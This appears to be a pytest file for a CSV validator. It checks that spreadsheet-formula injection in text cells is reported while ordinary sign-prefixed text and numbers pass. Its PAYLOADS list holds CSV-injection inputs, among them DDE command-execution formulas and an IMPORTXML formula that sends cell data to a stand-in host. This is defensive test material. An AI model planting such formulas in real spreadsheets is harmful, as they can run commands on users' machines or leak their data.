"""struktur: spreadsheet formulas in text cells (CSV injection) are refused, values are not."""

from __future__ import annotations

import pytest

from .test_codes import CSV, DS, findings

PAYLOADS = [
    '=HYPERLINK("http://x","klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    " =SUM (A1:A3)",
]

ORDINARY = ["- lainnya", "-", "+ tambahan", "@pemkomedan (Instagram)", "- Bantuan (BLT)", "= 5"]


def _with_text_column(repo, cells: list[str], numbers: list[str] | None = None) -> None:
    repo.replace(
        DS,
        "  - nama: jumlah_puskesmas\n",
        "  - nama: keterangan\n    judul: Keterangan\n    tipe: teks\n    peran: atribut\n"
        "  - nama: jumlah_puskesmas\n",
    )
    repo.replace(DS, "    min: 0\n", "")
    numbers = numbers or ["1"] * len(cells)
    rows = "".join(
        '{},12.71.01,"{}",{}\n'.format(2000 + i, cell.replace('"', '""'), number)
        for i, (cell, number) in enumerate(zip(cells, numbers, strict=True))
    )
    repo.write(CSV, "tahun,kode_kecamatan,keterangan,jumlah_puskesmas\n" + rows)


def test_each_formula_is_an_error_at_its_file_line_and_column(repo):
    _with_text_column(repo, PAYLOADS)
    found = [f for f in findings(repo) if f.code == "sel-berisi-rumus"]
    assert [(f.file, f.line, f.column) for f in found] == [
        (CSV, line, "keterangan") for line in range(2, 2 + len(PAYLOADS))
    ]
    first = found[0]
    assert first.severity.value == "error" and first.family == "struktur"
    assert "=HYPERLINK" in first.message() and "Tempel Spesial" in first.saran()
    assert "Paste Special" in first.saran("en")


@pytest.mark.parametrize("cell", ORDINARY)
def test_ordinary_text_starting_with_a_sign_passes(repo, cell):
    _with_text_column(repo, [cell])
    assert "sel-berisi-rumus" not in {f.code for f in findings(repo)}


def test_signed_numbers_in_numeric_columns_are_numbers(repo):
    _with_text_column(repo, ["a", "b", "c"], ["-5", "+3", "-0"])
    assert [f.code for f in findings(repo) if f.family == "struktur"] == []


def test_a_formula_in_a_numeric_column_is_reported_once_as_a_type_error(repo):
    _with_text_column(repo, ["a"], ["=SUM(A1)"])
    codes = [f.code for f in findings(repo)]
    assert "tipe-tidak-sesuai" in codes and "sel-berisi-rumus" not in codes
